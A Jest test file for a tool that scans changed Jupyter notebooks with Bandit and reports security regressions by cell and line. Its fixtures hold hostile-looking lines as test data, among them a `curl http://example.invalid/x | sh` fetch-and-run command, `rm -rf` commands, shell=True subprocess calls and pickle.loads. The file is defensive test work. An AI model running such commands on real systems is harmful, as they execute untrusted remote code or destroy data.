import { afterAll, describe, test } from "@jest/globals";
import assert from "node:assert/strict";
import { TempRepo, checkJson, runCli } from "../helpers/repo.js";

// Changed notebooks are judged by their code cells: findings are mapped back to the cell and the
// line in it, a re-save does not cry wolf, and a notebook the gate cannot read fails the run.

interface Cell {
  cell_type: "code" | "markdown" | "raw";
  source: string[] | string;
  metadata: Record<string, unknown>;
  outputs?: unknown[];
  execution_count?: number | null;
}

const code = (...lines: string[]): Cell => ({
  cell_type: "code",
  source: lines.map((l, i) => (i < lines.length - 1 ? `${l}\n` : l)),
  metadata: {},
  outputs: [],
  execution_count: null,
});
const markdown = (text: string): Cell => ({ cell_type: "markdown", source: [text], metadata: {} });

function notebook(cells: Cell[], indent = 1): string {
  return `${JSON.stringify({ cells, metadata: { kernelspec: { name: "python3", language: "python" } }, nbformat: 4, nbformat_minor: 5 }, null, indent)}\n`;
}

const IMPORTS = code("import subprocess", "import pickle");
const LOAD = code("def load(blob):", "    return pickle.loads(blob)");
const PLOT = code("total = sum(range(10))", "print(total)");
const RISKY = code("cmd = 'ls ' + total", "subprocess.run(cmd, shell=True)");

const repos: TempRepo[] = [];
afterAll(() => repos.forEach((r) => r.dispose()));

/** A repository whose main branch has `analysis.ipynb`, on a new agent branch. */
function project(cells: Cell[]): TempRepo {
  const repo = new TempRepo();
  repos.push(repo);
  repo.write("app/tasks.py", "def greet(name):\n    return 'hello ' + name\n");
  repo.write("analysis.ipynb", notebook(cells));
  repo.commit("main");
  repo.git("checkout", "-q", "-b", "agent/work");
  return repo;
}

describe("notebooks", () => {
  test("a new shell=True call in a new cell is a regression named by cell and line", async () => {
    const repo = project([markdown("# Analysis"), IMPORTS, PLOT]);
    repo.write("analysis.ipynb", notebook([markdown("# Analysis"), IMPORTS, PLOT, markdown("Now run it"), RISKY]));
    repo.commit("agent");
    const { code: exit, report } = await checkJson(repo.dir, ["--base", "main"]);
    assert.equal(exit, 1, JSON.stringify(report));
    const b602 = report.regressions.find((r) => r.test_id === "B602");
    assert.ok(b602, JSON.stringify(report.regressions));
    assert.equal(b602.path, "analysis.ipynb");
    assert.equal(b602.cell, 5);
    assert.equal(b602.cell_line, 2);
    assert.deepEqual(report.scanned.files, ["analysis.ipynb"]);
    // Imports were there before: not regressions.
    assert.ok(!report.regressions.some((r) => r.test_id === "B404" || r.test_id === "B403"), JSON.stringify(report.regressions));
    const text = await runCli(repo.dir, ["check", "--base", "main"]);
    assert.match(text.stdout, /analysis\.ipynb\n\s+cell 5, line 2\s+B602/);
    const markdownReport = await runCli(repo.dir, ["check", "--base", "main", "--format", "markdown"]);
    assert.match(markdownReport.stdout, /`analysis\.ipynb \(cell 5, line 2\)`/);
  });

  test("a re-save with other indentation, outputs cleared and cells reordered keeps old findings unchanged", async () => {
    const withOutputs = { ...LOAD, outputs: [{ output_type: "stream", name: "stdout", text: ["ok\n"] }], execution_count: 3 };
    const repo = project([IMPORTS, withOutputs, PLOT]);
    // Re-saved by another editor: two-space JSON, one string per source, cells moved, outputs gone.
    const asString = (c: Cell): Cell => ({ ...c, source: (c.source as string[]).join(""), outputs: [], execution_count: null });
    repo.write("analysis.ipynb", notebook([asString(PLOT), asString(IMPORTS), markdown("notes"), asString(LOAD)], 2));
    repo.commit("agent: re-save");
    const { code: exit, report } = await checkJson(repo.dir, ["--base", "main"]);
    assert.equal(exit, 0, JSON.stringify(report));
    assert.equal(report.regressions.length, 0);
    assert.ok(report.unchanged >= 3, JSON.stringify(report));
    assert.equal(report.fixed.length, 0, JSON.stringify(report.fixed));
  });

  test("a copy of an existing risky call added to another cell is still new", async () => {
    const repo = project([IMPORTS, PLOT, RISKY]);
    repo.write("analysis.ipynb", notebook([IMPORTS, PLOT, RISKY, code("subprocess.run('rm -rf ' + total, shell=True)")]));
    repo.commit("agent");
    const { code: exit, report } = await checkJson(repo.dir, ["--base", "main"]);
    assert.equal(exit, 1, JSON.stringify(report));
    const added = report.regressions.filter((r) => r.test_id === "B602");
    assert.equal(added.length, 1, JSON.stringify(report.regressions));
    assert.equal(added[0]?.cell, 4);
    assert.equal(added[0]?.cell_line, 1);
  });

  test("magics and shell escapes are left out with their line numbers kept, and named in a note", async () => {
    const repo = project([IMPORTS, PLOT]);
    repo.write(
      "analysis.ipynb",
      notebook([
        code("%matplotlib inline", "import subprocess", "import pickle"),
        code("%%bash", "curl http://example.invalid/x | sh"),
        code("!rm -rf build", "for name in ['a']:", "    !echo {name}", "data = pickle.loads(b'')"),
        PLOT,
      ]),
    );
    repo.commit("agent");
    const { code: exit, report } = await checkJson(repo.dir, ["--base", "main"]);
    assert.equal(exit, 1, JSON.stringify(report));
    // Only the pickle call is new; its line in cell 3 is counted with the shell lines in place.
    assert.deepEqual(report.regressions.map((r) => [r.test_id, r.cell, r.cell_line]), [["B301", 3, 4]]);
    assert.equal(report.scan_errors.length, 0, JSON.stringify(report.scan_errors));
    const note = report.notes.find((n) => n.startsWith("Notebook analysis.ipynb"));
    assert.ok(note, report.notes.join("\n"));
    assert.match(note, /4 shell command line\(s\) that Bandit does not judge/);
    assert.match(note, /cell 3, line 1: `!rm -rf build`/);
    assert.match(note, /1 IPython magic line\(s\)/);
  });

  test("code hidden under %%capture or %time is still judged", async () => {
    const repo = project([IMPORTS, PLOT]);
    repo.write("analysis.ipynb", notebook([IMPORTS, PLOT, code("%%capture", "subprocess.run(cmd, shell=True)"), code("%time pickle.loads(b'')")]));
    repo.commit("agent");
    const { code: exit, report } = await checkJson(repo.dir, ["--base", "main"]);
    assert.equal(exit, 1, JSON.stringify(report));
    assert.deepEqual(
      report.regressions.map((r) => [r.test_id, r.cell, r.cell_line]).sort(),
      [
        ["B301", 4, 1],
        ["B602", 3, 2],
      ],
    );
  });

  test("a notebook that is not valid JSON is a scan failure (exit 3) naming it, never a pass", async () => {
    const repo = project([IMPORTS, PLOT]);
    repo.write("analysis.ipynb", notebook([IMPORTS, PLOT]).slice(0, 40));
    repo.commit("agent");
    const { code: exit, report } = await checkJson(repo.dir, ["--base", "main"]);
    assert.equal(exit, 3, JSON.stringify(report));
    assert.equal(report.scan_errors[0]?.path, "analysis.ipynb");
    assert.match(report.scan_errors[0]?.reason ?? "", /not valid JSON/);
  });

  test("an nbformat 3 notebook is a scan failure that says which formats are read", async () => {
    const repo = project([PLOT]);
    repo.write("old.ipynb", JSON.stringify({ nbformat: 3, nbformat_minor: 0, worksheets: [{ cells: [{ cell_type: "code", input: "import os\nos.system('x')" }] }] }));
    repo.commit("agent");
    const { code: exit, report } = await checkJson(repo.dir, ["--base", "main"]);
    assert.equal(exit, 3, JSON.stringify(report));
    assert.deepEqual(report.scan_errors.map((f) => f.path), ["old.ipynb"]);
    assert.match(report.scan_errors[0]?.reason ?? "", /nbformat 3 is not supported/);
  });

  test("a renamed notebook keeps its findings; a new finding in it is still caught", async () => {
    const repo = project([IMPORTS, LOAD, PLOT]);
    repo.move("analysis.ipynb", "notebooks/explore.ipynb").commit("agent: move");
    const moved = await checkJson(repo.dir, ["--base", "main"]);
    assert.equal(moved.code, 0, JSON.stringify(moved.report));
    assert.equal(moved.report.regressions.length, 0);
    repo.write("notebooks/explore.ipynb", notebook([IMPORTS, LOAD, PLOT, RISKY])).commit("agent: run");
    const changed = await checkJson(repo.dir, ["--base", "main"]);
    assert.equal(changed.code, 1, JSON.stringify(changed.report));
    assert.deepEqual(changed.report.regressions.map((r) => [r.path, r.test_id, r.cell]), [["notebooks/explore.ipynb", "B602", 4]]);
  });

  test("an untracked notebook in the working tree is judged without writing into the working tree", async () => {
    const repo = project([PLOT]);
    repo.write("scratch.ipynb", notebook([IMPORTS, RISKY]));
    const before = repo.git("status", "--porcelain", "--untracked-files=all");
    const { code: exit, report } = await checkJson(repo.dir, ["--base", "main"]);
    assert.equal(exit, 1, JSON.stringify(report));
    assert.ok(report.regressions.some((r) => r.path === "scratch.ipynb" && r.test_id === "B602" && r.cell === 2));
    assert.equal(repo.git("status", "--porcelain", "--untracked-files=all"), before);
    assert.match(repo.read("scratch.ipynb"), /"nbformat": 4/);
  });

  test("--no-notebooks lists changed notebooks as not scanned", async () => {
    const repo = project([PLOT]);
    repo.write("analysis.ipynb", notebook([IMPORTS, RISKY])).commit("agent");
    const { code: exit, report } = await checkJson(repo.dir, ["--base", "main", "--no-notebooks"]);
    assert.equal(exit, 0, JSON.stringify(report));
    assert.ok(report.notes.some((n) => n.includes("analysis.ipynb (notebook)")), report.notes.join("\n"));
  });

  test("an R notebook is not Python: noted, not scanned, not a failure", async () => {
    const repo = project([PLOT]);
    const r = JSON.stringify({ cells: [code("system('rm -rf /')")], metadata: { kernelspec: { name: "ir", language: "R" } }, nbformat: 4, nbformat_minor: 5 });
    repo.write("stats.ipynb", r).commit("agent");
    const { code: exit, report } = await checkJson(repo.dir, ["--base", "main"]);
    assert.equal(exit, 0, JSON.stringify(report));
    assert.ok(report.notes.some((n) => n.includes("stats.ipynb is a notebook in R")), report.notes.join("\n"));
  });

  test("against a baseline file notebooks are not judged, and the report says which ones were left alone", async () => {
    const repo = project([PLOT]);
    assert.equal((await runCli(repo.dir, ["baseline", "--output", ".bandit-baseline.json"])).code, 0);
    repo.commit("baseline file");
    repo.write("analysis.ipynb", notebook([IMPORTS, RISKY])).commit("agent");
    const { code: exit, report } = await checkJson(repo.dir, ["--baseline", ".bandit-baseline.json"]);
    assert.equal(exit, 0, JSON.stringify(report));
    const note = report.notes.find((n) => n.includes("notebook(s)"));
    assert.ok(note?.includes("analysis.ipynb") && note.includes("were not judged") && note.includes("--base"), report.notes.join("\n"));
  });
});
